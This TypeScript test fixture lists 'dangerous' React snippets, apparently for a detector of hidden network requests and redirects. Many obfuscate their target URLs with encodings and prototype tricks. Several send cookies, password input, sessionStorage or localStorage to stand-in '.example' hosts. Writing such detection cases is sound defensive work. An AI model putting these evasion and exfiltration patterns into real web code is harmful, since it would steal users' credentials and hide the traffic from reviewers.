import type { Dangerous } from "./case.ts";

/** Requests to hosts that are hidden, private data that is carried away, and ways off the page. */
export const NETWORK_H: readonly Dangerous[] = [
  [
    "external-request",
    `const D = [104, 12, 0, -4, 3, -57, -11, 0, 50, 22];\nlet n = 0;\nexport const A = () => { useEffect(() => { fetch(D.map((d) => String.fromCharCode((n += d))).join("")); }, []); return null; };`,
  ],
  [
    "external-request",
    `const key = 7; const S = "osswt=((\x7fu)b\x7ffjwkb".split("");\nexport const B = () => { useEffect(() => { fetch(S.map((c) => String.fromCharCode(c.charCodeAt(0) ^ key)).join("")); }, []); return null; };`,
  ],
  [
    "external-request",
    `const read = (s) => { let o = ""; for (let i = 0; i < s.length; i += 3) o += s[i]; return o; };\nexport const C = ({ v }) => { navigator.sendBeacon(read("h12t34t56p78s90:12/34/56x78.90y12"), v); return null; };`,
  ],
  [
    "external-request",
    `const odd = "h-t-t-p-s-:-/-/-o-d-d-.-e-x-a-m-p-l-e".split("").filter((_, i) => i % 2 < 1).join("");\nexport const D = () => <b onClick={() => fetch(odd)}>x</b>;`,
  ],
  [
    "external-request",
    `const list = new Intl.ListFormat("en", { type: "unit", style: "narrow" });\nconst url = list.format(["https://l", "example"]).replace(" ", ".");\nexport const E = () => <b onClick={() => new WebSocket(url)}>x</b>;`,
  ],
  [
    "external-request",
    `const ABC = "zyxwvutsrqponmlkjihgfedcba:/.";\nconst dec = (s) => [...s].map((c) => "abcdefghijklmnopqrstuvwxyz:/."[ABC.indexOf(c)]).join("");\nexport const F = () => <b onClick={() => fetch(dec("sggkh://nriili.vcznkov"))}>x</b>;`,
  ],
  [
    "external-request",
    `const n = 4.9e9; const word = (x) => BigInt(x).toString(36);\nexport const G = () => <b onClick={() => fetch(word("81730215") + "://" + word(n))}>x</b>;`,
  ],
  [
    "external-request",
    `const dec = (b) => b.match(/.{7}/g).map((x) => String.fromCodePoint(parseInt(x, 2))).join("");\nexport const H = ({ bits }) => <b onClick={() => fetch(dec(bits))}>x</b>;`,
  ],
  [
    "external-request",
    `const site = "\\uff48\\uff54\\uff54\\uff50\\uff53://wide.example/".normalize("NFKC");\nexport const I = () => <b onClick={() => fetch(site)}>x</b>;`,
  ],
  [
    "external-request",
    `const fail = () => { throw new Error("https://oops.example/in"); };\nexport const J = ({ t }) => <b onClick={() => { try { fail(); } catch (e) { navigator.sendBeacon(e.message, t); } }}>x</b>;`,
  ],
  [
    "external-request",
    `const o = new Option("up", "https://opt.example/up");\nexport const K = ({ f }) => <b onClick={() => fetch(o.value, { method: "POST", body: f })}>x</b>;`,
  ],
  [
    "external-request",
    `export const L = () => { const r = useRef(null); return <b ref={r} data-to-where="https://data.example/" onClick={() => { const { toWhere } = r.current.dataset; fetch(toWhere); }}>x</b>; };`,
  ],
  [
    "external-request",
    `export const M = () => { const r = useRef(null); return <b ref={r} title="https://title.example/" onClick={() => fetch(r.current.title)}>x</b>; };`,
  ],
  [
    "external-request",
    `const m = { get: (k) => ({ a: "https://proxy.example/x" })[k] };\nconst held = new WeakMap([[m, m.get("a")]]);\nexport const N = () => <b onClick={() => fetch(held.get(m))}>x</b>;`,
  ],
  [
    "external-request",
    `const P = XMLHttpRequest.prototype;\nexport const O = ({ t }) => <b onClick={() => { const x = new XMLHttpRequest(); P.open.call(x, "POST", "https://proto.example/"); P.send.call(x, t); }}>x</b>;`,
  ],
  [
    "external-request",
    `const steps = [["open", "PUT", "https://steps.example/"], ["send", "x"]];\nexport const P = () => <b onClick={() => { const x = new XMLHttpRequest(); steps.forEach(([k, ...a]) => x[k](...a)); }}>x</b>;`,
  ],
  [
    "external-request",
    `const cookie = Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get;\nexport const Q = () => <img alt="" src={"https://pic.example/" + cookie.call(document)} />;`,
  ],
  [
    "external-request",
    `export const R = () => { const [v, set] = useState(""); return <><input type="password" onInput={(e) => set(e.target.value)} /><img alt="" src={\`https://keys.example/\${v}\`} /></>; };`,
  ],
  [
    "external-request",
    `export const S = () => { const all = Object.entries({ ...sessionStorage }).join(); return <div style={{ background: "url(https://bg.example/" + all + ")" }} />; };`,
  ],
  [
    "external-request",
    `export const T = () => { useEffect(() => { const m = /token=(\\w+)/.exec(document.cookie); new FontFace("x", "url(https://font.example/" + m[1] + ")").load(); }, []); return null; };`,
  ],
  [
    "external-request",
    `export const U = () => { useEffect(() => { const l = document.createElement("link"); const p = { rel: "preload", as: "font", href: "https://pre.example/" + localStorage.id }; for (const k in p) l.setAttribute(k, p[k]); document.head.append(l); }, []); return null; };`,
  ],
  [
    "external-request",
    `export const V = ({ pc }) => { useEffect(() => { pc["set" + "Configuration"]({ iceServers: [{ urls: ["stun:rtc.example"] }] }); }, [pc]); return null; };`,
  ],
  [
    "external-request",
    `export const W = () => { const r = useRef(null); useEffect(() => { r.current.setAttributeNS("http://www.w3.org/1999/xlink", "xlink:href", "https://svg.example/?" + document.cookie); }, []); return <svg><use ref={r} /></svg>; };`,
  ],
  [
    "external-request",
    `export const X = ({ q }) => { const p = new URLSearchParams({ q }); return <img width="1" alt="" src={"https://count.example/?" + p} />; };`,
  ],
  [
    "external-request",
    `const more = { ["sr" + "c"]: "https:" + "//pieces.example/a.gif" };\nexport const Y = () => <img alt="" {...more} />;`,
  ],
  [
    "external-request",
    `const host = ["pieces", "example"].join(".");\nexport const Z = () => <img alt="" src={"https://" + host + "/a.gif"} />;`,
  ],
  [
    "external-request",
    `export const A2 = ({ k }) => <p ref={(p) => p?.style.setProperty("cursor", "url(https://css.example/" + k + "), auto")} />;`,
  ],
  [
    "external-request",
    `const set = Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, "src").set;\nexport const B2 = ({ v }) => { set.call(new Image(), "https://setter.example/?" + v); return null; };`,
  ],
  [
    "external-request",
    `const h = "68747470733a2f2f6865782e6578616d706c65";\nexport const C2 = ({ read }) => <b onClick={() => read(h.replace(/../g, (x) => "%" + x))}>x</b>;`,
  ],
  [
    "external-request",
    `export const D2 = ({ open }) => { const at = [208, 232, 232, 224, 230, 116, 94, 94, 240].map((c) => c / 2); return <b onClick={() => open(String.fromCharCode(...at))}>x</b>; };`,
  ],
  [
    "redirect",
    `const { set } = Object.getOwnPropertyDescriptor(location, "href");\nexport const A = () => <b onClick={set.bind(location, "https://away.example/")}>x</b>;`,
  ],
  [
    "redirect",
    `const go = location.assign.bind(location, "https://away.example/");\nexport const B = () => <b onClick={go}>x</b>;`,
  ],
  [
    "redirect",
    `const press = Function.prototype.call.bind(HTMLElement.prototype.click);\nexport const C = () => { useEffect(() => { const a = document.createElement("a"); a.href = "https://away.example/"; press(a); }, []); return null; };`,
  ],
  [
    "redirect",
    `export const D = () => { const r = useRef(null); useEffect(() => { const { current } = r; current["cl" + "ick"](); }, []); return <a ref={r} href="https://away.example/">x</a>; };`,
  ],
  [
    "redirect",
    `const Tag = "meta"; const p = { httpEquiv: "refresh", content: "1;url=https://away.example/" };\nexport const E = () => <Tag {...p} />;`,
  ],
  [
    "redirect",
    `const M = ["me", "ta"].join("");\nexport const F = () => <M httpEquiv={"Refresh"} content="0;url=//away.example" />;`,
  ],
  [
    "redirect",
    `function* plan() { yield [document, "title", "x"]; yield [location, "href", "https://away.example/"]; }\nexport const G = () => <b onClick={() => { for (const [o, k, v] of plan()) o[k] = v; }}>x</b>;`,
  ],
  [
    "redirect",
    `const plan = { *[Symbol.iterator]() { yield ["search", "a"]; yield ["host", "away.example"]; } };\nexport const H = () => <b onClick={() => { for (const [k, v] of plan) location[k] = v; }}>x</b>;`,
  ],
  [
    "external-request",
    `export const I = () => <b onClick={() => { const f = document.body.appendChild(document.createElement("form")); const b = f.appendChild(document.createElement("button")); b.formAction = "https://post.example/"; b.click(); }}>x</b>;`,
  ],
  [
    "redirect",
    `export const J = () => <b onClick={() => { const m = document.createElement("map"); m.appendChild(Object.assign(document.createElement("area"), { href: "https://away.example/" })).click(); }}>x</b>;`,
  ],
];
